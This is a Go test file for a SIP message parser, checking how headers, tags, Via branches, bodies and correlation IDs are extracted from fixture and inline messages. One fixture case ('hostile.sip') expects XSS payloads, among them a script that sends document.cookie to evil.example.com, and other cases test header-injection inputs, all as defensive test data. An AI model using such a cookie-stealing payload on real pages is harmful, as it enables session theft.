package sip

import (
	"errors"
	"reflect"
	"testing"
)

func TestExtractFixtures(t *testing.T) {
	x := NewExtractor(DefaultCorrelationHeaders)
	tests := []struct {
		file string
		want fields
		// body is checked by prefix: the fixtures' bodies are long.
		bodyPrefix string
		wantErr    error
	}{
		{
			file: "invite_sdp.sip",
			want: fields{
				Request: true, Method: "INVITE",
				RequestURI: "sip:+4930123456@pbx.example.net;user=phone", RURIUser: "+4930123456",
				CallID:  "4f2c8d9e1b7a6c3d5e8f0a1b2c3d4e5f@192.0.2.10",
				CSeqNum: 1, CSeqMethod: "INVITE",
				FromUser: "alice", FromHost: "example.com", FromTag: "8e3f1a2b",
				ToUser: "+4930123456", ToHost: "pbx.example.net",
				ViaBranch: "z9hG4bK-524287-1---7b3c2e9f1a8d6c40",
				UserAgent: "Zoiper rv2.10.19.5", Contact: "<sip:alice@192.0.2.10:5060;transport=udp>",
				CType: "application/sdp", HasSDP: true,
				Correlation: "7e1d2c3b-4a59-4687-9a1b-2c3d4e5f6a7b",
			},
			bodyPrefix: "v=0\r\no=Zoiper 1700000000 1 IN IP4 192.0.2.10\r\n",
		},
		{
			file: "ok_sdp.sip",
			want: fields{
				StatusCode: 200, Reason: "OK",
				CallID:  "4f2c8d9e1b7a6c3d5e8f0a1b2c3d4e5f@192.0.2.10",
				CSeqNum: 1, CSeqMethod: "INVITE",
				FromUser: "alice", FromHost: "example.com", FromTag: "8e3f1a2b",
				ToUser: "+4930123456", ToHost: "pbx.example.net", ToTag: "as5f8c1d2e",
				ViaBranch: "z9hG4bK-524287-1---7b3c2e9f1a8d6c40",
				UserAgent: "Asterisk PBX 20.5.0", Contact: "<sip:+4930123456@198.51.100.20:5060>",
				CType: "application/sdp", HasSDP: true,
			},
			bodyPrefix: "v=0\r\no=root 1822387223",
		},
		{
			file: "register.sip",
			want: fields{
				Request: true, Method: "REGISTER", RequestURI: "sip:registrar.example.com",
				CallID:  "9b1e3f5a-7c2d-4e8f-a6b0-1d3c5e7f9a2b",
				CSeqNum: 17834, CSeqMethod: "REGISTER",
				FromUser: "1001", FromHost: "registrar.example.com", FromTag: "c0ffee42",
				ToUser: "1001", ToHost: "registrar.example.com",
				ViaBranch: "z9hG4bKPjd1f4b7c2-9a3e-4c1b-8d2f-0e6a5b4c3d2e",
				UserAgent: "Linphone-Desktop/5.2.4 (belle-sip/5.3.0)",
				Contact:   `<sip:1001@203.0.113.7:50432;transport=tcp>;+sip.instance="<urn:uuid:5b6e2c1d-8f3a-4b7e-9c0d-2a1e3f4b5c6d>";expires=600`,
			},
		},
		{
			file: "unauthorized_401.sip",
			want: fields{
				StatusCode: 401, Reason: "Unauthorized",
				CallID:  "9b1e3f5a-7c2d-4e8f-a6b0-1d3c5e7f9a2b",
				CSeqNum: 17834, CSeqMethod: "REGISTER",
				FromUser: "1001", FromHost: "registrar.example.com", FromTag: "c0ffee42",
				ToUser: "1001", ToHost: "registrar.example.com", ToTag: "3a7b9c1d5e",
				ViaBranch: "z9hG4bKPjd1f4b7c2-9a3e-4c1b-8d2f-0e6a5b4c3d2e",
				UserAgent: "kamailio (5.6.3 (x86_64/linux))",
			},
		},
		{
			file: "bye.sip",
			want: fields{
				Request: true, Method: "BYE", RequestURI: "sip:alice@192.0.2.10:5060;transport=udp", RURIUser: "alice",
				CallID:  "4f2c8d9e1b7a6c3d5e8f0a1b2c3d4e5f@192.0.2.10",
				CSeqNum: 102, CSeqMethod: "BYE",
				FromUser: "+4930123456", FromHost: "pbx.example.net", FromTag: "as5f8c1d2e",
				ToUser: "alice", ToHost: "example.com", ToTag: "8e3f1a2b",
				ViaBranch: "z9hG4bK1c2d3e4f", UserAgent: "Asterisk PBX 20.5.0",
			},
		},
		{
			// Kamailio prepends its own Via to the one it received, in the same header.
			file: "invite_kamailio_rr.sip",
			want: fields{
				Request: true, Method: "INVITE", RequestURI: "sip:bob@[2001:db8::20]:5060;transport=udp", RURIUser: "bob",
				CallID:  "1j9FpLxk3uxtm8tn@biloxi.example.com",
				CSeqNum: 1, CSeqMethod: "INVITE",
				FromUser: "alice", FromHost: "[2001:db8::10]", FromTag: "a73kszlfl",
				ToUser: "bob", ToHost: "biloxi.example.com",
				ViaBranch: "z9hG4bKcydzigwkX.0", UserAgent: "SIPp/3.6.1", Contact: "<sip:alice@10.0.0.50:5060>",
				CType: "application/sdp", HasSDP: true,
				// X-Call-ID is preferred to P-Charging-Vector by the configured order.
				Correlation: "leg-a-0001",
			},
			bodyPrefix: "v=0\r\n",
		},
		{
			file: "options_lf.sip",
			want: fields{
				Request: true, Method: "OPTIONS", RequestURI: "sip:gw1.example.org",
				CallID: "ka-0001@192.0.2.99", CSeqNum: 42, CSeqMethod: "OPTIONS",
				FromUser: "monitor", FromHost: "192.0.2.99", FromTag: "ka-0001",
				ToHost: "gw1.example.org", ViaBranch: "z9hG4bK.ka1.0001", Contact: "<sip:monitor@192.0.2.99>",
			},
		},
		{
			// Markup passes through untouched (escaping is the renderer's job);
			// the injection attempts create no header and the first Call-ID wins.
			file: "hostile.sip",
			want: fields{
				Request: true, Method: "MESSAGE",
				RequestURI: "sip:<script>alert(1)</script>@victim.example.com", RURIUser: "<script>alert(1)</script>",
				CallID:  "evil-1@evil.example.com",
				CSeqNum: 1, CSeqMethod: "MESSAGE",
				FromUser: "attacker", FromHost: "evil.example.com", FromTag: "<b>tag</b>",
				ToUser: "victim", ToHost: "victim.example.com",
				ViaBranch: `z9hG4bK"><img`,
				UserAgent: "<script>document.location='https://evil.example.com/?c='+document.cookie</script>",
				Contact:   "<sip:attacker@evil.example.com>",
				CType:     "text/html",
			},
			bodyPrefix: "<html><body><script>",
		},
		{
			file: "multipart_invite.sip",
			want: fields{
				Request: true, Method: "INVITE", RequestURI: "sip:+15551230000@mgc.example.com;user=phone", RURIUser: "+15551230000",
				CallID: "sipi-0001@192.0.2.60", CSeqNum: 1, CSeqMethod: "INVITE",
				FromUser: "+15559870000", FromHost: "192.0.2.60", FromTag: "sipi-1",
				ToUser:    "+15551230000",
				ViaBranch: "z9hG4bKsipi0001", Contact: "<sip:+15559870000@192.0.2.60>",
				CType: `multipart/mixed;boundary="unique-boundary-1"`, HasSDP: true,
			},
			bodyPrefix: "--unique-boundary-1\r\n",
		},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			b := MustReadFixture(t, tt.file)
			var m Message
			if err := x.Extract(b, &m); !errors.Is(err, tt.wantErr) {
				t.Fatalf("Extract: err = %v, want %v", err, tt.wantErr)
			}
			checkAliases(t, &m, b)
			got := fieldsOf(&m)
			if len(got.Body) < len(tt.bodyPrefix) || got.Body[:len(tt.bodyPrefix)] != tt.bodyPrefix {
				t.Errorf("Body = %q, want prefix %q", got.Body, tt.bodyPrefix)
			}
			got.Body = ""
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("Extract:\n got  %+v\n want %+v", got, tt.want)
			}
		})
	}
}

func TestExtract(t *testing.T) {
	x := NewExtractor(DefaultCorrelationHeaders)
	// base is a minimal valid request; cases change what they test.
	tests := []struct {
		name    string
		in      []byte
		want    fields
		wantErr error
	}{
		{
			name: "Minimal",
			in:   crlf("ACK sip:bob@b.example SIP/2.0\nCall-ID: c1\nCSeq: 7 ACK\n\n"),
			want: fields{Request: true, Method: "ACK", RequestURI: "sip:bob@b.example", RURIUser: "bob", CallID: "c1", CSeqNum: 7, CSeqMethod: "ACK"},
		},
		{
			name: "ResponseEmptyReason",
			in:   crlf("SIP/2.0 180\nCall-ID: c1\n\n"),
			want: fields{StatusCode: 180, CallID: "c1"},
		},
		{
			name: "ResponseReasonWithSpaces",
			in:   crlf("sip/2.0 486 Busy  Here\ni:c1\n"),
			want: fields{StatusCode: 486, Reason: "Busy  Here", CallID: "c1"},
		},
		{
			name: "CompactForms",
			in: crlf("INVITE sip:b@h SIP/2.0\n" +
				"v: SIP/2.0/UDP h1;branch=z9hG4bKa\n" +
				"f: <sip:a@h2>;tag=ft\n" +
				"t: sip:b@h3\n" +
				"i: c1\n" +
				"m: <sip:a@h4>\n" +
				"c: application/sdp\n" +
				"l: 3\nk: timer\ns: subj\ne: gzip\no: presence\nu: foo\nr: <sip:x@y>\nx: 90\ny: abc\n" +
				"\nv=0"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				FromUser: "a", FromHost: "h2", FromTag: "ft", ToUser: "b", ToHost: "h3",
				ViaBranch: "z9hG4bKa", Contact: "<sip:a@h4>", CType: "application/sdp", HasSDP: true, Body: "v=0"},
		},
		{
			name: "NamesIgnoreCase",
			in:   crlf("BYE sip:b@h SIP/2.0\nCALL-ID: c1\nfRoM: <sip:a@h>;TAG=t1\nvIA: SIP/2.0/UDP h;BRANCH=z9\nuser-AGENT: ua\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				FromUser: "a", FromHost: "h", FromTag: "t1", ViaBranch: "z9", UserAgent: "ua"},
		},
		{
			name: "WhitespaceAroundColon",
			in:   crlf("BYE sip:b@h SIP/2.0\nCall-ID  \t:   c1  \t\nCSeq :\t 12   BYE \nTo\t:<sip:b@h> ; tag = tt \n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				CSeqNum: 12, CSeqMethod: "BYE", ToUser: "b", ToHost: "h", ToTag: "tt"},
		},
		{
			name: "FoldedLines",
			in: crlf("INVITE sip:b@h SIP/2.0\n" +
				"Via:\n SIP/2.0/UDP h1\n\t;branch=z9folded\n" +
				"From: \"Alice\"\n <sip:a@h2>\n ;tag=ft\n" +
				"Call-ID:\n    c1\n" +
				"Subject: one\n two\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				FromUser: "a", FromHost: "h2", FromTag: "ft", ViaBranch: "z9folded"},
		},
		{
			name: "LFOnly",
			in:   []byte("SIP/2.0 200 OK\nVia: SIP/2.0/UDP h;branch=z9lf\nCall-ID: c1\nCSeq: 2 BYE\nServer: srv\n\nbody\n"),
			want: fields{StatusCode: 200, Reason: "OK", CallID: "c1", CSeqNum: 2, CSeqMethod: "BYE",
				ViaBranch: "z9lf", UserAgent: "srv", Body: "body\n"},
		},
		{
			name: "LeadingCRLFIgnored",
			in:   crlf("\n\nOPTIONS sip:h SIP/2.0\ni: c1\n"),
			want: fields{Request: true, Method: "OPTIONS", RequestURI: "sip:h", CallID: "c1"},
		},
		{
			name: "DisplayNameQuotesAndAngle",
			in: crlf("INVITE sip:b@h SIP/2.0\ni: c1\n" +
				`From: "Eve \"<sip:admin@bank>\" ; tag=no" <sip:eve@evil.example>;tag=real` + "\n" +
				`To: Bob Smith <sip:bob@biloxi.example>` + "\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				FromUser: "eve", FromHost: "evil.example", FromTag: "real", ToUser: "bob", ToHost: "biloxi.example"},
		},
		{
			name: "BareAddrSpecTagIsHeaderParam",
			in:   crlf("INVITE sip:b@h SIP/2.0\ni: c1\nFrom: sip:alice@a.example;tag=88sja8x\nTo: sip:bob@b.example\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				FromUser: "alice", FromHost: "a.example", FromTag: "88sja8x", ToUser: "bob", ToHost: "b.example"},
		},
		{
			name: "URIParamsAreNotHeaderParams",
			in:   crlf("INVITE sip:b@h SIP/2.0\ni: c1\nFrom: <sip:alice@a.example;tag=uri-param>;tag=hdr\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				FromUser: "alice", FromHost: "a.example", FromTag: "hdr"},
		},
		{
			name: "TelURIs",
			in:   crlf("INVITE tel:+15551234567;phone-context=example.com SIP/2.0\ni: c1\nTo: <tel:+1-555-123-4567>;tag=x\nFrom: tel:911;tag=y\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "tel:+15551234567;phone-context=example.com",
				RURIUser: "+15551234567", CallID: "c1", ToUser: "+1-555-123-4567", ToTag: "x", FromUser: "911", FromTag: "y"},
		},
		{
			name: "UserWithPasswordAndParams",
			in:   crlf("INVITE sips:+4930;npdi;rn=+4931@gw.example;user=phone SIP/2.0\ni: c1\nFrom: <sip:alice:secret@a.example:5061>;tag=t\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sips:+4930;npdi;rn=+4931@gw.example;user=phone",
				RURIUser: "+4930", CallID: "c1", FromUser: "alice", FromHost: "a.example", FromTag: "t"},
		},
		{
			name: "NoUserPart",
			in:   crlf("OPTIONS sip:proxy.example:5060;transport=tcp?subject=a@b SIP/2.0\ni: c1\nTo: <sip:proxy.example>\n"),
			want: fields{Request: true, Method: "OPTIONS", RequestURI: "sip:proxy.example:5060;transport=tcp?subject=a@b",
				CallID: "c1", ToHost: "proxy.example"},
		},
		{
			name: "IPv6Hosts",
			in: crlf("INVITE sip:bob@[2001:db8::2]:5060 SIP/2.0\ni: c1\n" +
				"From: <sip:alice@[2001:db8::1]:5060>;tag=v6\n" +
				"To: sip:[2001:db8::3]\n" +
				"Via: SIP/2.0/UDP [2001:db8::1]:5060;branch=z9v6\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:bob@[2001:db8::2]:5060", RURIUser: "bob", CallID: "c1",
				FromUser: "alice", FromHost: "[2001:db8::1]", FromTag: "v6", ToHost: "[2001:db8::3]", ViaBranch: "z9v6"},
		},
		{
			name: "OtherSchemeGivesNoUser",
			in:   crlf("INVITE urn:service:sos SIP/2.0\ni: c1\nFrom: <mailto:a@b>;tag=m\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "urn:service:sos", CallID: "c1", FromTag: "m"},
		},
		{
			name: "ViasInOneHeaderTakeFirst",
			in:   crlf("BYE sip:b@h SIP/2.0\ni: c1\nVia: SIP/2.0/UDP p1;received=1.2.3.4;branch=z9first , SIP/2.0/UDP p2;branch=z9second\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1", ViaBranch: "z9first"},
		},
		{
			name: "ViasAcrossHeadersTakeFirst",
			in:   crlf("BYE sip:b@h SIP/2.0\ni: c1\nVia: SIP/2.0/UDP p1;branch=z9first\nv: SIP/2.0/UDP p2;branch=z9second\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1", ViaBranch: "z9first"},
		},
		{
			// The branch of a later via must not stand in for the top one's.
			name: "TopViaWithoutBranch",
			in:   crlf("BYE sip:b@h SIP/2.0\ni: c1\nVia: SIP/2.0/UDP p1;rport, SIP/2.0/UDP p2;branch=z9second\nVia: SIP/2.0/UDP p3;branch=z9third\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1"},
		},
		{
			name: "ViaQuotedParamWithComma",
			in:   crlf("BYE sip:b@h SIP/2.0\ni: c1\nVia: SIP/2.0/UDP p1;x=\"a,b;c\";branch=z9q\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1", ViaBranch: "z9q"},
		},
		{
			name: "UserAgentPreferredToServer",
			in:   crlf("SIP/2.0 200 OK\nServer: srv\nUser-Agent: ua\ni: c1\n"),
			want: fields{StatusCode: 200, Reason: "OK", UserAgent: "ua", CallID: "c1"},
		},
		{
			name: "FirstOccurrenceWins",
			in:   crlf("BYE sip:b@h SIP/2.0\nCall-ID: first\ni: second\nCSeq: 1 BYE\nCSeq: 2 BYE\nFrom: <sip:a@h>;tag=1\nFrom: <sip:z@h>;tag=2\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "first",
				CSeqNum: 1, CSeqMethod: "BYE", FromUser: "a", FromHost: "h", FromTag: "1"},
		},
		{
			name: "CSeqOverflowGivesZero",
			in:   crlf("BYE sip:b@h SIP/2.0\ni: c1\nCSeq: 99999999999999999999 BYE\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1", CSeqMethod: "BYE"},
		},
		{
			name: "CSeqMax",
			in:   crlf("BYE sip:b@h SIP/2.0\ni: c1\nCSeq: 4294967295 BYE\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1", CSeqNum: 4294967295, CSeqMethod: "BYE"},
		},
		{
			name: "BareCRDoesNotStartAHeader",
			in:   []byte("BYE sip:b@h SIP/2.0\r\nSubject: x\rCall-ID: injected\r\nCall-ID: real\r\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "real"},
		},
		{
			name: "LineWithoutColonIgnored",
			in:   crlf("BYE sip:b@h SIP/2.0\nthis is not a header\n: empty name\nCall-ID: c1\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1"},
		},
		{
			name: "ContentLengthNotTrusted",
			in:   crlf("MESSAGE sip:b@h SIP/2.0\ni: c1\nContent-Length: 2\nContent-Type: text/plain\n\nhello world"),
			want: fields{Request: true, Method: "MESSAGE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				CType: "text/plain", Body: "hello world"},
		},
		{
			name: "SDPTypeWithParamsAndCase",
			in:   crlf("INVITE sip:b@h SIP/2.0\ni: c1\nContent-Type: Application/SDP ; charset=utf-8\n\nv=0\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				CType: "Application/SDP ; charset=utf-8", HasSDP: true, Body: "v=0\r\n"},
		},
		{
			name: "SDPTypeBlankBody",
			in:   crlf("INVITE sip:b@h SIP/2.0\ni: c1\nContent-Type: application/sdp\n\n\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				CType: "application/sdp", Body: "\r\n"},
		},
		{
			name: "SDPTypeNoBody",
			in:   crlf("INVITE sip:b@h SIP/2.0\ni: c1\nContent-Type: application/sdp\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1", CType: "application/sdp"},
		},
		{
			name: "SDPBodyWithoutSDPType",
			in:   crlf("INVITE sip:b@h SIP/2.0\ni: c1\nContent-Type: application/sdpx\n\nv=0"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				CType: "application/sdpx", Body: "v=0"},
		},
		{
			name: "MultipartWithoutSDP",
			in:   crlf("INVITE sip:b@h SIP/2.0\ni: c1\nc: multipart/mixed; boundary=b1\n\n--b1\nContent-Type: application/isup\n\nxx\n--b1--\n"),
			want: fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				CType: "multipart/mixed; boundary=b1", Body: "--b1\r\nContent-Type: application/isup\r\n\r\nxx\r\n--b1--\r\n"},
		},
		{
			name: "CorrelationByConfiguredOrder",
			in:   crlf("BYE sip:b@h SIP/2.0\ni: c1\nP-Charging-Vector: icid-value=pcv1\nX-Call-ID: xcallid\nx-cid:  xcid  \nX-CID: second-xcid\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1", Correlation: "xcid"},
		},
		{
			name: "CorrelationPChargingVector",
			in:   crlf("BYE sip:b@h SIP/2.0\ni: c1\nP-Charging-Vector: orig-ioi=home1.net ; ICID-Value = \"AyretyU0dm+6O2IrT5tAFrbHLso=023551024\"\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1",
				Correlation: "AyretyU0dm+6O2IrT5tAFrbHLso=023551024"},
		},
		{
			name: "CorrelationSkipsEmpty",
			in:   crlf("BYE sip:b@h SIP/2.0\ni: c1\nX-CID:\nP-Charging-Vector: orig-ioi=x\nX-Call-ID: fallback\n"),
			want: fields{Request: true, Method: "BYE", RequestURI: "sip:b@h", RURIUser: "b", CallID: "c1", Correlation: "fallback"},
		},
		{
			name:    "MissingCallIDKeepsOtherFields",
			in:      crlf("INVITE sip:b@h SIP/2.0\nCSeq: 1 INVITE\nFrom: <sip:a@h>;tag=t\n"),
			want:    fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b", CSeqNum: 1, CSeqMethod: "INVITE", FromUser: "a", FromHost: "h", FromTag: "t"},
			wantErr: ErrNoCallID,
		},
		{
			name:    "EmptyCallID",
			in:      crlf("INVITE sip:b@h SIP/2.0\nCall-ID:   \n"),
			want:    fields{Request: true, Method: "INVITE", RequestURI: "sip:b@h", RURIUser: "b"},
			wantErr: ErrNoCallID,
		},
		{
			name:    "CallIDInBodyDoesNotCount",
			in:      crlf("MESSAGE sip:b@h SIP/2.0\nContent-Type: text/plain\n\nCall-ID: c1\n"),
			want:    fields{Request: true, Method: "MESSAGE", RequestURI: "sip:b@h", RURIUser: "b", CType: "text/plain", Body: "Call-ID: c1\r\n"},
			wantErr: ErrNoCallID,
		},
		{name: "Empty", in: nil, wantErr: ErrNoStartLine},
		{name: "KeepAlive", in: []byte("\r\n\r\n"), wantErr: ErrNoStartLine},
		{name: "Garbage", in: []byte("\x00\x01\x02garbage\xff"), wantErr: ErrMalformed},
		{name: "HTTP", in: crlf("GET / HTTP/1.1\nHost: x\n\n"), wantErr: ErrMalformed},
		{name: "MethodNotToken", in: crlf("INV<ITE sip:b@h SIP/2.0\ni: c1\n"), wantErr: ErrMalformed},
		{name: "RequestWithoutVersion", in: crlf("INVITE sip:b@h\ni: c1\n"), wantErr: ErrMalformed},
		{name: "RequestExtraWord", in: crlf("INVITE sip:b@h SIP/2.0 x\ni: c1\n"), wantErr: ErrMalformed},
		{name: "StatusCodeTooShort", in: crlf("SIP/2.0 20 OK\ni: c1\n"), wantErr: ErrMalformed},
		{name: "StatusCodeTooLong", in: crlf("SIP/2.0 2000 OK\ni: c1\n"), wantErr: ErrMalformed},
		{name: "StatusCodeOutOfRange", in: crlf("SIP/2.0 099 Early\ni: c1\n"), wantErr: ErrMalformed},
		{name: "StatusCodeNotDigits", in: crlf("SIP/2.0 2x0 OK\ni: c1\n"), wantErr: ErrMalformed},
		{name: "StatusWithoutCode", in: crlf("SIP/2.0\ni: c1\n"), wantErr: ErrMalformed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var m Message
			err := x.Extract(tt.in, &m)
			if !errors.Is(err, tt.wantErr) || (err == nil) != (tt.wantErr == nil) {
				t.Fatalf("Extract: err = %v, want %v", err, tt.wantErr)
			}
			checkAliases(t, &m, tt.in)
			if got := fieldsOf(&m); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("Extract:\n got  %+v\n want %+v", got, tt.want)
			}
		})
	}
}

func TestExtractResetsMessage(t *testing.T) {
	x := NewExtractor(DefaultCorrelationHeaders)
	var m Message
	if err := x.Extract(MustReadFixture(t, "invite_sdp.sip"), &m); err != nil {
		t.Fatal(err)
	}
	if err := x.Extract(crlf("SIP/2.0 100 Trying\ni: c2\n"), &m); err != nil {
		t.Fatal(err)
	}
	if want := (fields{StatusCode: 100, Reason: "Trying", CallID: "c2"}); fieldsOf(&m) != want {
		t.Errorf("second Extract kept fields of the first: %+v", fieldsOf(&m))
	}
}

func TestNewExtractor(t *testing.T) {
	in := crlf("BYE sip:b@h SIP/2.0\ni: c1\nX-CID: xcid\nX-Leg: leg7\nP-Charging-Vector: icid-value=pcv\n")
	tests := []struct {
		name string
		x    *Extractor
		want string
	}{
		{"Nil", NewExtractor(nil), ""},
		{"ZeroValue", &Extractor{}, ""},
		{"NilPointer", nil, ""},
		{"CustomHeaderAnyCase", NewExtractor([]string{" x-LEG ", ""}), "leg7"},
		{"PCVFirst", NewExtractor([]string{"p-charging-vector", "X-CID"}), "pcv"},
		{"Absent", NewExtractor([]string{"X-Other"}), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var m Message
			if err := tt.x.Extract(in, &m); err != nil {
				t.Fatal(err)
			}
			if got := string(m.Correlation); got != tt.want {
				t.Errorf("Correlation = %q, want %q", got, tt.want)
			}
		})
	}
}
